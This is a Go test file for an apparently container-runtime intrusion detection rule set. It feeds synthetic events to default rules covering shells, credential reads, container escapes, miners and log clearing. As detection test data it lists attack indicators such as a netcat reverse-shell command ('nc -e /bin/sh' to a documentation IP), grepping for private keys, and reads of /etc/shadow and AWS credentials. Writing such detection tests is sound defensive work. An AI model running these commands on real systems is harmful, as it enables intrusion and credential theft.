package rules

import (
	"net/netip"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/bulkhead-sec/bulkhead/internal/runtime/event"
)

func TestDefaultLoadsClean(t *testing.T) {
	set, warns, err := Load(Default())
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range warns {
		t.Errorf("warning: %s", w)
	}
	for _, r := range set.Rules() {
		if !r.Enabled {
			t.Errorf("rule %q disabled: %s", r.Name, r.Disabled)
		}
		if len(r.EventTypes) == 0 {
			t.Errorf("rule %q has no event type restriction", r.Name)
		}
	}
}

var testTime = time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)

var nginx = &event.Container{ID: "4f1c2d3e4b5a69788776655443322110", Name: "web", Image: "nginx:1.25",
	ImageRepository: "nginx", ImageTag: "1.25"}

// proc builds a process with a parent chain given as names, nearest first.
func proc(name string, args []string, parents ...string) *event.Process {
	p := &event.Process{PID: 100, Name: name, ExePath: "/usr/bin/" + name, Args: append([]string{name}, args...)}
	cur := p
	for i, n := range parents {
		cur.Parent = &event.Process{PID: uint32(99 - i), Name: n, ExePath: "/usr/bin/" + n, Args: []string{n}}
		cur = cur.Parent
	}
	return p
}

func execEv(c *event.Container, p *event.Process) *event.Event {
	return &event.Event{Time: testTime, Type: event.Execve, PID: p.PID, VPID: 7, UID: 1000, EUID: 1000,
		LoginUID: event.NoUID, Comm: p.Name, ExePath: p.ExePath, Args: p.Args, Process: p, Container: c}
}

func openEv(c *event.Container, name, path string, flags uint32) *event.Event {
	p := proc(name, nil, "bash")
	return &event.Event{Time: testTime, Type: event.Openat, PID: 100, UID: 0, LoginUID: event.NoUID, Comm: name,
		Path: path, Flags: flags, Ret: 3, Process: p, Container: c}
}

// recvEv is a recvfrom as the sensor reports one: the datagram's source
// in DAddr, the local end in SAddr.
func recvEv(c *event.Container, proto event.L4Proto) *event.Event {
	p := proc("dnsd", nil, "containerd-shim")
	return &event.Event{Time: testTime, Type: event.Recvfrom, PID: 100, LoginUID: event.NoUID, Comm: "dnsd",
		Family: event.AFInet, Proto: proto, FDType: event.FDIPv4, FD: 6, Ret: 12,
		SAddr: netip.MustParseAddr("172.17.0.2"), SPort: 53, DAddr: netip.MustParseAddr("10.9.8.7"), DPort: 40000,
		Process: p, Container: c}
}

func with(e *event.Event, f func(*event.Event)) *event.Event { f(e); return e }

func TestDefaultRulesFire(t *testing.T) {
	set, _, err := Load(Default())
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		ev   *event.Event
		want []string
	}{
		// shells
		{"shell from web server", execEv(nginx, proc("sh", []string{"-c", "id"}, "nginx")), []string{"Shell spawned by web server or untrusted parent", "Shell started in container"}},
		{"entrypoint shell (vpid 1)", with(execEv(nginx, proc("sh", []string{"/docker-entrypoint.sh"}, "containerd-shim")), func(e *event.Event) { e.VPID = 1; e.Process.VPID = 1 }), nil},
		{"shell on host", execEv(nil, proc("bash", nil, "sshd")), nil},
		{"docker exec -it bash", with(execEv(nginx, proc("bash", nil, "runc")), func(e *event.Event) { e.TTY = 34816 }), []string{"Interactive shell with terminal in container"}},
		{"shell spawned by shell", execEv(nginx, proc("sh", nil, "bash", "runc")), nil},
		// issue 14: the attacks the defaults cover
		{"traversal to shadow", with(openEv(nginx, "cat", "/etc/shadow", event.ORdOnly), func(e *event.Event) { e.PathRaw = "../etc/shadow" }), []string{"Sensitive file read", "Sensitive file read through path traversal"}},
		{"write /root/.ssh/authorized_keys", openEv(nginx, "sh", "/root/.ssh/authorized_keys", event.OWrOnly|event.OCreat), []string{"Write below root or device directory in container"}},
		{"write /dev/null", openEv(nginx, "sh", "/dev/null", event.OWrOnly), nil},
		{"symlink to shadow", &event.Event{Type: event.Symlinkat, Path: "/etc/shadow", Path2: "/tmp/s", Comm: "ln", Container: nginx}, []string{"Link to sensitive file"}},
		{"hardlink to shadow", &event.Event{Type: event.Linkat, Path: "/etc/shadow", Path2: "/tmp/h", Comm: "ln", Container: nginx}, []string{"Link to sensitive file"}},
		{"truncate app.log", openEv(nginx, "sh", "/app/logs/app.log", event.OWrOnly|event.OTrunc), []string{"Log file cleared"}},
		{"exec refused in /dev/shm", with(execEv(nginx, proc("sh", nil, "bash")), func(e *event.Event) { e.Path = "/dev/shm/x"; e.Ret = -13 }), []string{"Execution from /dev/shm"}},
		{"grep for private keys", execEv(nginx, proc("grep", []string{"-r", "BEGIN RSA PRIVATE KEY", "/"}, "bash")), []string{"Search for private keys or credentials"}},
		{"grep for a word", execEv(nginx, proc("grep", []string{"-r", "error", "/var/log"}, "bash")), nil},
		{"packet socket", &event.Event{Type: event.Socket, Family: event.AFPacket, Ret: 3, Comm: "sniff", Container: nginx}, []string{"Packet socket created in container"}},
		{"inet socket", &event.Event{Type: event.Socket, Family: event.AFInet, Ret: 3, Comm: "curl", Container: nginx}, nil},
		{"ptrace traceme", &event.Event{Type: event.Ptrace, Request: 0, Comm: "x", Container: nginx}, []string{"Anti-debugging ptrace"}},
		{"chmod u+s", &event.Event{Type: event.Fchmodat, Path: "/tmp/sh", Mode: 0o4755, Comm: "chmod", Container: nginx}, []string{"Drift executable created in container", "Setuid or setgid bit set"}},
		{"shred", execEv(nginx, proc("shred", []string{"-u", "/data/db"}, "sh")), []string{"Bulk data removal"}},
		{"cat connects", &event.Event{Type: event.Connect, Family: event.AFInet, FDType: event.FDIPv4, DAddr: netip.MustParseAddr("10.0.0.1"), DPort: 4444, Comm: "cat", Process: proc("cat", nil, "sh"), Container: nginx}, []string{"Network activity by a non-network system binary"}},
		{"release_agent write refused", with(openEv(nginx, "sh", "/sys/fs/cgroup/memory/release_agent", event.OWrOnly|event.OTrunc), func(e *event.Event) { e.Ret = -30 }), []string{"Container escape through cgroup release_agent", "Write to kernel parameters from container"}},
		{"write /proc/sys refused", with(openEv(nginx, "sh", "/proc/sys/kernel/core_pattern", event.OWrOnly), func(e *event.Event) { e.Ret = -30 }), []string{"Write to kernel parameters from container"}},
		{"system user shell on tty", with(execEv(nginx, proc("sh", nil, "bash")), func(e *event.Event) { e.UID, e.EUID, e.Process.UID, e.Process.TTY = 1, 1, 1, 34816 }), []string{"Interactive shell with terminal in container", "System user ran an interactive program"}},
		// sensitive files
		{"cat /etc/shadow", openEv(nginx, "cat", "/etc/shadow", event.ORdOnly), []string{"Sensitive file read"}},
		{"ssh private key on host", openEv(nil, "python3", "/home/alice/.ssh/id_ed25519", event.ORdOnly), []string{"Sensitive file read"}},
		{"aws credentials", openEv(nil, "curl", "/root/.aws/credentials", event.ORdOnly), []string{"Sensitive file read"}},
		{"sudoers.d file", openEv(nil, "vim", "/etc/sudoers.d/90-cloud", event.ORdOnly), []string{"Sensitive file read"}},
		{"sshd reads shadow", openEv(nil, "sshd", "/etc/shadow", event.ORdOnly), nil},
		{"nginx reads its config", openEv(nginx, "nginx", "/etc/nginx/nginx.conf", event.ORdOnly), nil},
		{"failed open of shadow", with(openEv(nginx, "cat", "/etc/shadow", event.ORdOnly), func(e *event.Event) { e.Ret = -13 }), nil},
		// writes below system dirs
		{"write /etc/passwd in container", openEv(nginx, "sed", "/etc/passwd", event.OWrOnly|event.OTrunc), []string{"Write below system directory in container"}},
		{"write /usr/bin/ls in container", openEv(nginx, "cp", "/usr/bin/ls", event.ORdWr|event.OCreat), []string{"Write below system directory in container"}},
		{"dpkg writes /usr/bin", openEv(nginx, "dpkg", "/usr/bin/curl", event.OWrOnly|event.OCreat), nil},
		{"write /etc on host", openEv(nil, "sed", "/etc/hosts", event.OWrOnly), nil},
		{"write /etcetera not /etc", openEv(nginx, "app", "/etcetera/x", event.OWrOnly), nil},
		{"write /tmp in container", openEv(nginx, "app", "/tmp/x", event.OWrOnly|event.OCreat), nil},
		// package managers
		{"apt-get in container", execEv(nginx, proc("apt-get", []string{"install", "-y", "nmap"}, "bash")), []string{"Package manager run in container"}},
		{"apt-get on host", execEv(nil, proc("apt-get", []string{"update"}, "bash")), nil},
		// drift
		{"exec from upper layer", with(execEv(nginx, proc("xyz", nil, "bash")), func(e *event.Event) { e.Process.ExeUpperLayer = true }), []string{"Drift executable not in image"}},
		{"chmod +x in container", &event.Event{Type: event.Fchmodat, Path: "/tmp/payload", Mode: 0o755, Comm: "chmod", Container: nginx}, []string{"Drift executable created in container"}},
		{"chmod 644 in container", &event.Event{Type: event.Fchmodat, Path: "/tmp/notes", Mode: 0o644, Comm: "chmod", Container: nginx}, nil},
		{"runc sets up /dev at container start", &event.Event{Type: event.Fchmodat, Path: "/var/lib/docker/overlay2/x/merged/dev", Mode: 0o755, Comm: "runc:[1:CHILD]", Container: nginx}, nil},
		{"create with exec mode", with(openEv(nginx, "curl", "/tmp/x", event.OWrOnly|event.OCreat), func(e *event.Event) { e.Mode = 0o700 }), []string{"Drift executable created in container"}},
		{"memfd exec", with(execEv(nil, proc("kworker", nil, "python3")), func(e *event.Event) { e.Process.ExeFromMemfd = true }), []string{"Fileless execution from memory"}},
		{"runc memfd exec", with(execEv(nil, proc("runc", nil, "containerd-shim")), func(e *event.Event) { e.Process.ExeFromMemfd = true }), nil},
		// runtime socket
		{"docker.sock opened", openEv(nginx, "curl", "/var/run/docker.sock", event.ORdWr), []string{"Container runtime socket opened in container"}},
		{"docker.sock connect", &event.Event{Type: event.Connect, Family: event.AFUnix, Path: "/run/docker.sock", Comm: "docker", Container: nginx}, []string{"Container runtime socket opened in container"}},
		{"docker.sock on host", &event.Event{Type: event.Connect, Family: event.AFUnix, Path: "/run/docker.sock", Comm: "docker"}, nil},
		// privilege escalation
		{"setuid binary in container", with(execEv(nginx, proc("pkexec", nil, "bash")), func(e *event.Event) { e.EUID = 0 }), []string{"Privilege escalation through setuid binary"}},
		{"setuid(0) by non-root", &event.Event{Type: event.Setuid, UID: 1000, NewUID: 0, Comm: "exploit"}, []string{"Setuid to root by non-root user"}},
		{"sudo setuid(0)", &event.Event{Type: event.Setuid, UID: 1000, NewUID: 0, Comm: "sudo"}, nil},
		{"setuid(1000) by root", &event.Event{Type: event.Setuid, UID: 0, NewUID: 1000, Comm: "nginx"}, nil},
		// ptrace, modules, mounts, namespaces
		{"ptrace attach", &event.Event{Type: event.Ptrace, Request: event.PtraceAttach, TargetPID: 1, Comm: "gdb"}, []string{"Ptrace attach to another process"}},
		{"ptrace peek", &event.Event{Type: event.Ptrace, Request: event.PtracePeekData, Comm: "gdb"}, nil},
		{"module from container", &event.Event{Type: event.FinitModule, Comm: "insmod", Container: nginx, Ret: -1}, []string{"Kernel module loaded from container"}},
		{"module on host by stranger", &event.Event{Type: event.InitModule, Comm: "rootkit"}, []string{"Kernel module loaded on host"}},
		{"modprobe on host", &event.Event{Type: event.FinitModule, Comm: "modprobe"}, nil},
		{"mount in container", &event.Event{Type: event.Mount, Path: "/mnt", Path2: "/dev/sda1", FSType: "ext4", Comm: "mount", Container: nginx}, []string{"Mount in container"}},
		{"mount on host", &event.Event{Type: event.Mount, Path: "/mnt", Comm: "mount"}, nil},
		{"unshare in container", &event.Event{Type: event.Unshare, Flags: event.CloneNewUser | event.CloneNewNS, Comm: "unshare", Container: nginx}, []string{"Namespace change in container"}},
		{"runc setns", &event.Event{Type: event.Setns, Comm: "runc:[2:INIT]", Container: nginx}, nil},
		// reverse shells
		{"shell with socket stdin", with(execEv(nginx, proc("bash", []string{"-i"}, "python3")), func(e *event.Event) {
			e.Process.StdinType, e.Process.StdoutType = event.FDIPv4, event.FDIPv4
		}), []string{"Reverse shell", "Shell started in container"}},
		{"dup2 socket onto stdout", &event.Event{Type: event.Dup2, Ret: 1, FD: 3, FDType: event.FDIPv4, Family: event.AFInet,
			SAddr: netip.MustParseAddr("172.17.0.2"), SPort: 40000, DAddr: netip.MustParseAddr("203.0.113.9"), DPort: 4444, Comm: "python3", Container: nginx},
			[]string{"Standard stream redirected to socket in container"}},
		{"dup2 file onto stdout", &event.Event{Type: event.Dup2, Ret: 1, FD: 3, FDType: event.FDFile, Path: "/tmp/log", Comm: "sh", Container: nginx}, nil},
		{"nc -e", execEv(nil, proc("nc", []string{"-e", "/bin/sh", "203.0.113.9", "4444"}, "bash")), []string{"Netcat with command execution"}},
		{"nc -z", execEv(nil, proc("nc", []string{"-z", "db", "5432"}, "bash")), nil},
		// miners
		{"xmrig", execEv(nginx, proc("xmrig", []string{"-o", "pool:3333"}, "bash")), []string{"Crypto miner started"}},
		{"stratum url", execEv(nil, proc("helper", []string{"--url", "STRATUM+TCP://pool.example:3333"}, "bash")), []string{"Crypto miner started"}},
		{"connect pool port", &event.Event{Type: event.Connect, Ret: -115, Family: event.AFInet, Proto: event.ProtoTCP,
			SAddr: netip.MustParseAddr("172.17.0.2"), SPort: 50000, DAddr: netip.MustParseAddr("198.51.100.7"), DPort: 14444, Comm: "app", Container: nginx},
			[]string{"Connection to crypto mining pool port"}},
		{"connect pool port, protocol unknown", &event.Event{Type: event.Connect, Ret: 0, Family: event.AFInet, FDType: event.FDIPv4,
			DAddr: netip.MustParseAddr("198.51.100.7"), DPort: 3333, Comm: "app", Container: nginx},
			[]string{"Connection to crypto mining pool port"}},
		{"udp to pool port", &event.Event{Type: event.Connect, Family: event.AFInet, Proto: event.ProtoUDP,
			DAddr: netip.MustParseAddr("198.51.100.7"), DPort: 3333, Comm: "app", Container: nginx}, nil},
		{"connect https", &event.Event{Type: event.Connect, Family: event.AFInet, Proto: event.ProtoTCP,
			SAddr: netip.MustParseAddr("172.17.0.2"), SPort: 50000, DAddr: netip.MustParseAddr("198.51.100.7"), DPort: 443, Comm: "app", Container: nginx}, nil},
		// environ, logs, history
		{"read other environ", openEv(nil, "python3", "/proc/4242/environ", event.ORdOnly), []string{"Read environment of another process"}},
		{"read own environ", openEv(nil, "python3", "/proc/self/environ", event.ORdOnly), nil},
		{"ps reads environ", openEv(nil, "ps", "/proc/4242/environ", event.ORdOnly), nil},
		{"truncate auth.log", openEv(nil, "sh", "/var/log/auth.log", event.OWrOnly|event.OTrunc), []string{"Log file cleared"}},
		{"append to log", openEv(nil, "app", "/var/log/app.log", event.OWrOnly|event.OAppend), nil},
		{"logrotate truncates", openEv(nil, "logrotate", "/var/log/syslog", event.OWrOnly|event.OTrunc), nil},
		{"rm log", &event.Event{Type: event.Unlinkat, Path: "/var/log/wtmp", Comm: "rm"}, []string{"Log file cleared"}},
		{"truncate history", openEv(nil, "bash", "/root/.bash_history", event.OWrOnly|event.OTrunc), []string{"Shell history cleared"}},
		{"history to /dev/null", &event.Event{Type: event.Symlinkat, Path: "/dev/null", Path2: "/home/bob/.bash_history", Comm: "ln"}, []string{"Shell history cleared"}},
		{"append history", openEv(nil, "bash", "/root/.bash_history", event.OWrOnly|event.OAppend), nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			set.Eval(tc.ev, func(a Alert) { got = append(got, a.Rule) })
			sort.Strings(got)
			want := append([]string(nil), tc.want...)
			sort.Strings(want)
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("rules fired (-want +got):\n%s", diff)
			}
		})
	}
}

// TestDocTuningExample loads the tuning example of docs/runtime-rules.md
// after the defaults: it must load cleanly and do what the page says.
func TestDocTuningExample(t *testing.T) {
	local := `
- list: bh_shell_allowed_images
  items: [registry.example.com/ops/toolbox]
  override:
    items: append

- rule: Package manager run in container
  exceptions:
    - name: ci_runners
      fields: [container.image.repository, proc.name]
      values:
        - [registry.example.com/ci/runner, apt-get]
  override:
    exceptions: append

- rule: Kernel module loaded on host
  enabled: false
`
	set, warns, err := Load(Default(), Source{Name: "local_rules.yaml", Data: []byte(local)})
	if err != nil || len(warns) > 0 {
		t.Fatalf("load: %v %v", err, warns)
	}
	toolbox := &event.Container{ID: "abcdef0123456789", ImageRepository: "registry.example.com/ops/toolbox"}
	runner := &event.Container{ID: "abcdef0123456789", ImageRepository: "registry.example.com/ci/runner"}
	var got []string
	for _, e := range []*event.Event{
		execEv(toolbox, proc("sh", []string{"-c", "x"}, "python3")),
		execEv(runner, proc("apt-get", nil, "bash")),
		execEv(runner, proc("apk", nil, "bash")),
		{Type: event.InitModule, Comm: "rootkit"},
	} {
		set.Eval(e, func(a Alert) { got = append(got, a.Rule) })
	}
	if diff := cmp.Diff([]string{"Package manager run in container"}, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestDefaultEventTypes(t *testing.T) {
	set, _, err := Load(Default())
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, ty := range set.EventTypes() {
		got = append(got, ty.String())
	}
	want := []string{"execve", "execveat", "open", "openat", "openat2", "creat", "connect", "socket", "sendto", "setuid", "setreuid",
		"setresuid", "ptrace", "init_module", "finit_module", "mount", "umount", "umount2", "pivot_root", "unshare",
		"setns", "chmod", "fchmod", "fchmodat", "unlink", "unlinkat", "rename", "renameat", "renameat2", "symlink",
		"symlinkat", "link", "linkat", "dup", "dup2", "dup3"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("event types (-want +got):\n%s", diff)
	}
}

// TestFalcoMacrosInDefaults: a user's rule file written against Falco's
// macros and lists loads unchanged on top of the defaults, and its rules
// fire on what the macros mean.
func TestFalcoMacrosInDefaults(t *testing.T) {
	user := `
- rule: My shell rule
  desc: d
  condition: spawned_process and container and shell_procs and not proc.pname in (shell_binaries)
  output: shell %proc.name
  priority: WARNING
- rule: My sensitive read
  desc: d
  condition: open_read and sensitive_files and container
  output: read %fd.name
  priority: WARNING
- rule: My etc write
  desc: d
  condition: open_write and etc_dir and not package_mgmt_procs
  output: write %fd.name
  priority: WARNING
- rule: My links
  desc: d
  condition: (create_symlink or create_hardlink or modify or mkdir or dup or kernel_module_load) and never_true
  output: x
  priority: WARNING
- rule: My inbound datagram
  desc: d
  condition: inbound and evt.type = recvfrom and container
  output: from %fd.cip
  priority: NOTICE
- rule: My net
  desc: d
  condition: (inbound_outbound or container_started or open_directory or open_file_failed or chmod or rename or remove) and (always_true or interactive or proc_name_exists or bin_dir or root_dir or ssh_port) and never_true
  output: x
  priority: WARNING
`
	set, warns, err := Load(Default(), Source{Name: "user.yaml", Data: []byte(user)})
	if err != nil || len(warns) > 0 {
		t.Fatalf("load: %v %v", err, warns)
	}
	for _, r := range set.Rules() {
		if strings.HasPrefix(r.Name, "My ") && !r.Enabled {
			t.Errorf("%s: disabled: %s", r.Name, r.Disabled)
		}
	}
	var got []string
	for _, e := range []*event.Event{
		execEv(nginx, proc("sh", []string{"-c", "id"}, "nginx")),
		openEv(nginx, "cat", "/etc/shadow", event.ORdOnly),
		openEv(nginx, "sed", "/etc/hosts", event.OWrOnly),
		openEv(nginx, "apt-get", "/etc/apt/sources.list", event.OWrOnly),
		// a datagram from a new peer (as the sensor reports a receive), then
		// the same receive on a connected socket's TCP twin, which is not
		// inbound
		recvEv(nginx, event.ProtoUDP),
		recvEv(nginx, event.ProtoTCP),
	} {
		set.Eval(e, func(a Alert) {
			if strings.HasPrefix(a.Rule, "My ") {
				got = append(got, a.Rule)
			}
		})
	}
	if diff := cmp.Diff([]string{"My shell rule", "My sensitive read", "My etc write", "My inbound datagram"}, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}
